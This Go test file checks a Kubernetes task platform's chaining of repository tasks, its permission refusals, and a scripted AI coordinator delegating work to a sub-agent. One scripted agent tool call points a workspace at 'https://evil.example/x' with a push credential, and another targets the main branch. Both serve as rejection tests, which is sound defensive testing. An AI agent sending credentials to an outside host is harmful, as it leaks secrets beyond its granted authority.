// Copyright The Platform Authors.
// SPDX-License-Identifier: Apache-2.0

package task

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/platform-ai/platform/pkg/apis/core/v1alpha1"
	"github.com/platform-ai/platform/test/kit"
	"github.com/platform-ai/platform/test/kit/standalone"
)

// afterTask makes a task continue another one.
func afterTask(name string) func(*v1alpha1.TaskSpec) {
	return func(s *v1alpha1.TaskSpec) { s.PriorTaskRef = &v1alpha1.NamespacedReference{Name: name} }
}

// spec returns a task whose command works on the repository.
func (p *publishing) spec(command string, intent v1alpha1.WorkspaceIntent, more ...func(*v1alpha1.TaskSpec)) *v1alpha1.TaskSpec {
	s := &v1alpha1.TaskSpec{Type: v1alpha1.TaskTypeContainer, Command: []string{"sh", "-e", "-c", command}, Workspace: &v1alpha1.TaskWorkspace{
		GitRepo: p.host.Location("shop"), Branch: "main", Intent: intent, ReadCredentialRef: &v1alpha1.WorkspaceCredentialReference{Name: "reader"},
	}}
	if w := s.Workspace; intent == v1alpha1.WorkspaceWrite {
		w.PublicationReadCredentialRef, w.PublicationCredentialRef = w.ReadCredentialRef, &v1alpha1.WorkspaceCredentialReference{Name: "pusher"}
	}
	for _, f := range more {
		f(s)
	}
	return s
}

func (p *publishing) work(name, command string, intent v1alpha1.WorkspaceIntent, more ...func(*v1alpha1.TaskSpec)) {
	p.t.Helper()
	p.Run(name, func(s *v1alpha1.TaskSpec) { *s = *p.spec(command, intent, more...) })
}

// structured returns the result of a task in parts, as the command prints it.
func (p *publishing) structured(task string) *v1alpha1.TaskStructuredResult {
	p.t.Helper()
	out, errs, code := standalone.Command(p.t.Context(), p.Kubeconfig, "task", "result", task, "-o", "json")
	var r v1alpha1.TaskResult
	if err := json.Unmarshal([]byte(out), &r); err != nil || code != 0 || r.Structured == nil {
		p.t.Fatalf("result of %s: %v, %s%s", task, err, out, errs)
	}
	return r.Structured
}

// TestPriorTask: a task begins with what an earlier one changed, wherever the branches are by then: on the commit that that one began with,
// or, on the same branch, on the one that it has published.
func TestPriorTask(t *testing.T) {
	t.Parallel()
	p := newPublishing(t)
	branch := func(s *v1alpha1.TaskSpec) { s.Workspace.PushBranch = "feature" }
	p.work("first", "echo more >> README.md; rm old.txt; mkdir src; printf x > src/x.go; chmod +x src/x.go", v1alpha1.WorkspaceWrite, branch)
	first := p.AwaitPhase("first", v1alpha1.TaskSucceeded).Status.Delivery
	p.host.Commit(t, "shop", "main", map[string]string{"README.md": "another shop\n"})

	p.work("review", `cat README.md; test -x src/x.go; test ! -e old.txt; printf %s "$PLATFORM_PRIOR_TASK/$PLATFORM_PRIOR_TASK_NAMESPACE/$PLATFORM_PRIOR_TASK_DIFF_SHA256"`, v1alpha1.WorkspaceRead, afterTask("first"))
	review := p.AwaitPhase("review", v1alpha1.TaskSucceeded)
	if got, want := p.ResultOf("review"), "a shop\nmore\nfirst/default/"+strings.TrimPrefix(first.ArtifactDigest, "sha256:"); got != want {
		t.Errorf("the review read %q, want %q", got, want)
	}
	if s := review.Status; s.Delivery.StartingSHA != p.start || s.PriorChangesDigest != first.ArtifactDigest || s.PriorTaskUID != p.task("first").UID {
		t.Errorf("status %+v", s)
	}
	if content := contentOf(t, p.Platform, "review", v1alpha1.EventWorkspacePreparationCompleted); content["priorTask"] != "first" || content["priorChanges"] != 3.0 {
		t.Errorf("event %v", content)
	}

	p.work("same-branch", `test "$(tail -n1 README.md)" = more; echo again >> README.md; test -z "$PLATFORM_PRIOR_TASK_DIFF_SHA256"`, v1alpha1.WorkspaceWrite, branch, afterTask("first"))
	second := p.AwaitPhase("same-branch", v1alpha1.TaskSucceeded).Status.Delivery
	if second.StartingSHA != first.VerifiedRemoteSHA || p.host.Git(t, "shop", "", "log", "--format=%H", p.start+"..feature") != second.VerifiedRemoteSHA+"\n"+first.VerifiedRemoteSHA {
		t.Errorf("the branch has %s, delivery %+v", p.host.Git(t, "shop", "", "log", "--format=%H", p.start+"..feature"), second)
	}

	p.host.Git(t, "shop", "", "branch", "-D", "feature")
	p.work("own-branch", `rm src/x.go; echo y > src/y.go; printf '{"version":1,"summary":"moved it","verdict":"MAYBE","headSHA":"a lie","data":{"n":1}}'`, v1alpha1.WorkspaceWrite, afterTask("first"))
	third := p.AwaitPhase("own-branch", v1alpha1.TaskSucceeded).Status.Delivery
	if got := p.host.Git(t, "shop", "", "diff", "--name-status", p.start, third.Branch); got != "M\tREADME.md\nD\told.txt\nA\tsrc/y.go" || third.StartingSHA != p.start {
		t.Errorf("changed %q, delivery %+v", got, third)
	}
	r := p.structured("own-branch")
	if strings.Join(r.Files, " ") != "README.md old.txt src/y.go" || r.BaseSHA != p.start || r.HeadSHA != third.VerifiedRemoteSHA || r.PushBranch != third.Branch ||
		r.Summary != "moved it" || r.Verdict != "" || strings.Join(strings.Fields(string(r.Data.Raw)), "") != `{"n":1}` || !strings.Contains(r.Diff, "+more\n") || len(r.Artifacts) != 0 {
		t.Errorf("in parts: %+v", r)
	}
	if r := p.structured("review"); r.Version != 1 || r.BaseSHA != p.start || r.HeadSHA != "" || r.Diff != "" || !strings.HasPrefix(r.Summary, "a shop\n") {
		t.Errorf("a text in parts: %+v", r)
	}
}

// TestPriorTaskWaits: a task waits for the end of the one that it continues, and fails if that one left no account of what it changed.
func TestPriorTaskWaits(t *testing.T) {
	kit.Needs(t, kit.Minutes)
	t.Parallel()
	p := newPublishing(t)
	goOn := filepath.Join(t.TempDir(), "go")
	p.work("slow", fmt.Sprintf("echo x > new; while [ ! -e %s ]; do sleep 0.05; done", goOn), v1alpha1.WorkspaceWrite)
	p.work("never", "sleep 1000", v1alpha1.WorkspaceWrite)
	for _, name := range []string{"slow", "never"} {
		p.work("after-"+name, "cat new", v1alpha1.WorkspaceRead, afterTask(name))
		waits := p.AwaitTask("after-"+name, func(t *v1alpha1.Task) bool {
			c := meta.FindStatusCondition(t.Status.Conditions, v1alpha1.ConditionWaitingToStart)
			return c != nil && c.Reason == v1alpha1.ReasonPriorTaskActive
		})
		if waits.Status.Phase != v1alpha1.TaskPending || waits.Status.Attempts != 0 {
			t.Errorf("after-%s: %+v", name, waits.Status)
		}
	}
	if err := os.WriteFile(goOn, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	p.AwaitPhase("after-slow", v1alpha1.TaskSucceeded)
	if got := p.ResultOf("after-slow"); got != "x\n" {
		t.Errorf("read %q", got)
	}
	kit.Must[*v1alpha1.Task](t)(p.Tasks().Cancel(t.Context(), "never", &v1alpha1.TaskCancellation{}, metav1.CreateOptions{}))
	for _, gone := range []bool{false, true} {
		name := "after-never"
		if gone { // another task of the name is not the one that was meant
			name = "after-gone"
			p.work("gone", "sleep 1000", v1alpha1.WorkspaceWrite)
			p.work(name, "true", v1alpha1.WorkspaceRead, afterTask("gone"))
			if err := p.Tasks().Delete(t.Context(), "gone", metav1.DeleteOptions{}); err != nil {
				t.Fatal(err)
			}
		}
		task := p.AwaitPhase(name, v1alpha1.TaskFailed)
		if c := meta.FindStatusCondition(task.Status.Conditions, v1alpha1.ConditionFailed); c.Reason != v1alpha1.ReasonPriorTaskUnusable {
			t.Errorf("%s: %+v", name, c)
		}
	}
}

// TestPriorTaskRefused: which tasks cannot be continued, and by whom.
func TestPriorTaskRefused(t *testing.T) {
	t.Parallel()
	p := newPublishing(t)
	p.host.Create(t, "other")
	p.work("reads", "true", v1alpha1.WorkspaceRead)
	p.work("writes", "echo x > new", v1alpha1.WorkspaceWrite)
	elsewhere := func(s *v1alpha1.TaskSpec) { s.Workspace.GitRepo = p.host.Location("other") }
	for name, tc := range map[string]struct {
		spec *v1alpha1.TaskSpec
		want string
	}{
		"missing":   {p.spec("true", v1alpha1.WorkspaceRead, afterTask("nothing")), `spec.priorTaskRef.name: Not found: "nothing"`},
		"itself":    {p.spec("true", v1alpha1.WorkspaceRead, afterTask("itself")), "spec.priorTaskRef.name: Invalid value: \"itself\": must be another task"},
		"reading":   {p.spec("true", v1alpha1.WorkspaceRead, afterTask("reads")), "task reads changes no repository"},
		"elsewhere": {p.spec("true", v1alpha1.WorkspaceRead, afterTask("writes"), elsewhere), "task writes works on " + p.host.Location("shop")},
		"folder":    {p.spec("true", v1alpha1.WorkspaceRead, afterTask("writes"), func(s *v1alpha1.TaskSpec) { s.Workspace.SubPath = "docs" }), "spec.workspace.subPath"},
		"bare":      {p.spec("true", v1alpha1.WorkspaceRead, afterTask("writes"), func(s *v1alpha1.TaskSpec) { s.Workspace = nil }), "spec.priorTaskRef: Forbidden: needs spec.workspace"},
		"agent": {p.spec("", v1alpha1.WorkspaceRead, afterTask("writes"), func(s *v1alpha1.TaskSpec) {
			s.Type, s.Command, s.Prompt, s.AgentRef = v1alpha1.TaskTypeAgent, nil, "x", &v1alpha1.NamespacedReference{Name: "coder"}
		}), "coding agents do not begin with the changes of another task"},
		"namespace": {p.spec("true", v1alpha1.WorkspaceRead, func(s *v1alpha1.TaskSpec) {
			s.PriorTaskRef = &v1alpha1.NamespacedReference{Name: "writes", Namespace: "other"}
		}), "must be the task's own namespace, default"},
	} {
		_, err := p.Tasks().Create(t.Context(), &v1alpha1.Task{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: *tc.spec}, metav1.CreateOptions{})
		if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %v, want %s", name, err, tc.want)
		}
	}
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "creates-tasks"}, Rules: []rbacv1.PolicyRule{
		{APIGroups: []string{v1alpha1.GroupName}, Resources: []string{"tasks"}, Verbs: []string{"create", "get"}},
	}}
	kit.Must[*rbacv1.ClusterRole](t)(p.Kubernetes(t).RbacV1().ClusterRoles().Create(t.Context(), role, metav1.CreateOptions{}))
	if _, err := p.As(t, "creator", role.Name).Tasks("default").Create(t.Context(), &v1alpha1.Task{
		ObjectMeta: metav1.ObjectMeta{Name: "theirs"}, Spec: *p.spec("true", v1alpha1.WorkspaceRead, afterTask("writes")),
	}, metav1.CreateOptions{}); !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "spec.priorTaskRef: who continues a task needs the right to get its tasks/delta") {
		t.Errorf("without the right: %v", err)
	}
	p.AwaitPhase("writes", v1alpha1.TaskSucceeded)
	p.work("mine", "true", v1alpha1.WorkspaceRead, afterTask("writes"), func(s *v1alpha1.TaskSpec) { s.Suspend = true })
	_, err := p.Tasks().Patch(t.Context(), "mine", "application/merge-patch+json", []byte(`{"spec":{"priorTaskRef":{"name":"reads"}}}`), metav1.PatchOptions{})
	if !apierrors.IsInvalid(err) {
		t.Errorf("another task later: %v", err)
	}
}

// handOffScript: a chief has a clerk write, another one review what that one wrote, and the first one mend what the review has found.
const handOffScript = `
models: [scripted-1]
turns:
- name: delegate the writing
  match: {turn: 1, lastRole: user, contains: Have it written}
  reply: {toolCalls: [{name: delegate_task, arguments: {agent: clerk, prompt: "Write it.", workspace: {intent: write}}}]}
- name: wait for it
  match: {turn: 2, lastRole: tool, contains: '"status":"created"'}
  reply: {toolCalls: [{name: wait_for_tasks, arguments: {tasks: ["{{ .Results.delegate_task.data.taskName }}"]}}]}
- name: have it reviewed
  match: {turn: 3, lastRole: tool, contains: '"workspaceStatus":"VerifiedExact"'}
  reply: {toolCalls: [{name: delegate_task, arguments: {agent: clerk, prompt: "Review it.", prior_task: "{{ (index .Results.wait_for_tasks.data.results 0).task }}", workspace: {intent: read}}}]}
- name: wait for the review
  match: {turn: 4, lastRole: tool, contains: '"status":"created"'}
  reply: {toolCalls: [{name: wait_for_tasks, arguments: {tasks: ["{{ .Results.delegate_task.data.taskName }}"]}}]}
- name: have it mended
  match: {turn: 5, lastRole: tool, contains: '"verdict":"CHANGES_NEEDED"'}
  reply: {toolCalls: [{name: delegate_task, arguments: {agent: clerk, prompt: "Mend it.", prior_task: "{{ (index .All.delegate_task 0).data.taskName }}", feedback: "{{ (index .Results.wait_for_tasks.data.results 0).feedback }}"}}]}
- name: wait for the end
  match: {turn: 6, lastRole: tool, contains: '"status":"created"'}
  reply: {toolCalls: [{name: wait_for_tasks, arguments: {tasks: ["{{ .Results.delegate_task.data.taskName }}"]}}]}
- name: done
  match: {turn: 7, lastRole: tool}
  reply: {text: "{{ (index .Results.wait_for_tasks.data.results 0).headSHA }}"}
- name: take a branch of people
  match: {turn: 1, lastRole: user, contains: Move main}
  reply: {toolCalls: [{name: delegate_task, arguments: {agent: clerk, prompt: "Write it.", workspace: {intent: write, pushBranch: main}}}]}
- name: take another Secret
  match: {turn: 1, lastRole: user, contains: Send a Secret}
  reply: {toolCalls: [{name: delegate_task, arguments: {agent: clerk, prompt: "Write it.", workspace: {gitRepo: "https://evil.example/x", readCredentialRef: {name: pusher}}}}]}
- name: refused
  match: {turn: 2, lastRole: tool, contains: '"success":false'}
  reply: {text: "{{ .Results.delegate_task.error }}"}
- name: write
  match: {turn: 1, lastRole: user, contains: Write it}
  reply: {toolCalls: [{name: file_write, arguments: {path: news.txt, content: "bad news"}}]}
- name: review
  match: {turn: 1, lastRole: user, contains: Review it}
  reply: {toolCalls: [{name: file_read, arguments: {path: news.txt}}]}
- name: mend
  match: {turn: 1, lastRole: user, contains: "FEEDBACK FROM REVIEW: no bad news\n\nMend it."}
  reply: {toolCalls: [{name: file_write, arguments: {path: news.txt, content: "good news"}}]}
- name: has reviewed
  match: {turn: 2, lastRole: tool, contains: "bad news"}
  reply: {text: '{"version":1,"verdict":"CHANGES_NEEDED","feedback":"no {{ .Results.file_read.data.content }}"}'}
- name: has written
  match: {turn: 2, lastRole: tool}
  reply: {text: written}
`

// TestHandOff: a coordinator hands a repository to its children, from one to the next, with what a review has found; no child gets more of it
// than the coordinator has.
func TestHandOff(t *testing.T) {
	kit.Needs(t, kit.Minutes)
	t.Parallel()
	p := newPublishingOn(t, handOffScript)
	for name, spec := range map[string]v1alpha1.AgentSpec{
		"chief": {Coordination: &v1alpha1.AgentCoordination{Enabled: true, AllowedAgents: []v1alpha1.NamespacedReference{{Name: "clerk"}}}},
		"clerk": {Tools: []v1alpha1.AgentTool{{Name: "file_read"}, {Name: "file_write"}}},
	} {
		spec.ProviderRef = &v1alpha1.NamespacedReference{Name: "model"}
		kit.Must[*v1alpha1.Agent](t)(p.API().Agents("default").Create(t.Context(), &v1alpha1.Agent{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: spec}, metav1.CreateOptions{}))
	}
	boss := func(name, prompt string) *v1alpha1.Task {
		p.work(name, "", v1alpha1.WorkspaceWrite, func(s *v1alpha1.TaskSpec) {
			s.Type, s.Command, s.Prompt, s.AgentRef = v1alpha1.TaskTypeAI, nil, prompt, &v1alpha1.NamespacedReference{Name: "chief"}
		})
		return p.AwaitTask(name, func(t *v1alpha1.Task) bool { return t.Status.Phase.Terminal() })
	}
	task := boss("boss", "Have it written.")
	if task.Status.Phase != v1alpha1.TaskSucceeded || task.Status.Delivery.State != v1alpha1.DeliveryNoChange || !strings.Contains(task.Status.Message, "which it delegated, has published") {
		t.Errorf("%s: %s, %+v", task.Status.Phase, task.Status.Message, task.Status.Delivery)
	}
	head, iterations, groups := p.ResultOf("boss"), map[string]string{}, map[string]bool{}
	if got := p.host.Git(t, "shop", "", "show", head+":news.txt"); got != "good news" {
		t.Errorf("the branch has %q", got)
	}
	for _, c := range p.Below("boss") {
		iterations[c.Spec.Prompt[strings.LastIndex(c.Spec.Prompt, "\n")+1:]] = c.Labels[v1alpha1.LabelIteration]
		groups[c.Labels[v1alpha1.LabelIterationGroup]] = true
	}
	if fmt.Sprint(iterations) != "map[Mend it.:2 Review it.:2 Write it.:1]" || len(groups) != 1 {
		t.Errorf("iterations %v of %d groups", iterations, len(groups))
	}
	if got := p.host.Git(t, "shop", "", "rev-list", "--count", p.start+".."+head); got != "2" {
		t.Errorf("%s commits were published", got)
	}
	for name, want := range map[string]string{"Move main": "spec.workspace.pushBranch: ", "Send a Secret": "spec.workspace.gitRepo: "} {
		task := strings.ToLower(strings.Fields(name)[0])
		boss(task, name+".")
		if got := p.ResultOf(task); !strings.HasPrefix(got, want) {
			t.Errorf("%s: %s, want %s", name, got, want)
		}
		if children := p.Below(task); len(children) != 0 {
			t.Errorf("%s: there are children", name)
		}
	}
}
